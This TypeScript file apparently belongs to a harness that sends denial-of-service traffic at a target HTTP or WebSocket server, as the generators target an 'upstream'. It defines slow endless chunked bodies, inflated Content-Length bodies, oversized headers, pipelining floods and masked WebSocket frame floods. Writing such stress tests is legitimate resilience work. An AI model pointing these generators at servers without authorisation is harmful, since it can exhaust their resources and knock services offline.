import { HttpTwoData, HttpTwoRequests } from './http2-attacks.ts';

/** Bytes of one connection that sends the smallest pieces. */
export interface Attack {
  /** Returns the next bytes, undefined while it has to wait for an answer. */
  next(): Buffer | undefined;
  received(bytes: Buffer): void;
  /** Resolves with the answer that the first bytes ask for, before all others. */
  readonly opened?: Promise<void>;
}

export interface AttackTarget {
  readonly host: string;
  readonly path: string;
  /** Header lines of requests, each with its line end. */
  readonly headers: string;
}

const chunk = Buffer.from('1\r\nx\r\n');
const attackBytes = 4096;
const longHeadBytes = 30_000;
/** The longest body that a request may announce everywhere. */
const announcedBytes = 100_000_000;

/** Attacks by name; each connection has one of its own. */
export const attacks = {
  'http1-chunks': ({ host, path, headers }) =>
    endless(`POST ${path} HTTP/1.1\r\nHost: ${host}\r\n${headers}Transfer-Encoding: chunked\r\n\r\n`, many(chunk)),
  'http1-body': ({ host, path, headers }) =>
    endless(
      `POST ${path} HTTP/1.1\r\nHost: ${host}\r\n${headers}Content-Length: ${announcedBytes}\r\n\r\n`,
      Buffer.alloc(256, 'x'),
    ),
  'blank-lines': ({ host, path }) => endless(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`, many('\r\n', 256)),
  'long-heads': ({ host, path }) =>
    endless('', Buffer.from(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\nX-Long: ${'x'.repeat(longHeadBytes)}\r\n\r\n`)),
  'http2-data': (target) => new HttpTwoData(target, 1),
  'http2-body': (target) => new HttpTwoData(target, 1024),
  'http2-requests': (target) => new HttpTwoRequests(target),
  'websocket-frames': (target) => new Upgraded(target, many(maskedFrame(), attackBytes)),
  'websocket-bytes': (target) => new Upgraded(target, many(maskedFrame(), 256)),
  bytes: () => endless('', Buffer.alloc(attackBytes, 'x')),
  'few-bytes': () => endless('', Buffer.alloc(256, 'x')),
  pipeline: ({ host, path, headers }) => endless('', many(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${headers}\r\n`)),
  'one-at-a-time': ({ host, path, headers }) =>
    new OneAtATime(Buffer.from(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${headers}\r\n`)),
  /** Asks, and reads whatever the upstream has to say. */
  reader: ({ host, path, headers }) => new Once(Buffer.from(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${headers}\r\n`)),
} satisfies Readonly<Record<string, (target: AttackTarget) => Attack>>;

export type AttackName = keyof typeof attacks;

function many(piece: Buffer | string, bytes = attackBytes): Buffer {
  const one = Buffer.from(piece);
  return Buffer.concat(Array.from({ length: Math.max(1, Math.floor(bytes / one.length)) }, () => one));
}

function endless(first: string, pieces: Buffer): Attack {
  let head: Buffer | undefined = Buffer.from(first);
  return {
    next() {
      const next = head === undefined ? pieces : Buffer.concat([head, pieces]);
      head = undefined;
      return next;
    },
    received() {},
  };
}

/** A binary message of one byte, masked with zeros. */
function maskedFrame(): Buffer {
  return Buffer.from([0x82, 0x81, 0, 0, 0, 0, 0x78]);
}

/** Sends messages once the connection has become a WebSocket. */
class Upgraded implements Attack {
  readonly #opening = Promise.withResolvers<void>();
  readonly opened = this.#opening.promise;
  readonly #messages: Buffer;
  #request: Buffer | undefined;

  constructor({ host, path }: AttackTarget, messages: Buffer) {
    this.#messages = messages;
    const upgrade = 'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n';
    const key = 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n';
    this.#request = Buffer.from(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${upgrade}${key}\r\n`);
  }

  next(): Buffer {
    const request = this.#request;
    this.#request = undefined;
    return request ?? this.#messages;
  }

  received(bytes: Buffer): void {
    if (bytes.includes('HTTP/1.1 101')) this.#opening.resolve();
  }
}

class OneAtATime implements Attack {
  readonly #request: Buffer;
  #mayAsk = true;

  constructor(request: Buffer) {
    this.#request = request;
  }

  next(): Buffer | undefined {
    if (!this.#mayAsk) return undefined;
    this.#mayAsk = false;
    return this.#request;
  }

  received(bytes: Buffer): void {
    this.#mayAsk ||= bytes.includes('HTTP/1.1 ');
  }
}

class Once implements Attack {
  #request: Buffer | undefined;

  constructor(request: Buffer) {
    this.#request = request;
  }

  next(): Buffer | undefined {
    const request = this.#request;
    this.#request = undefined;
    return request;
  }

  received(): void {}
}
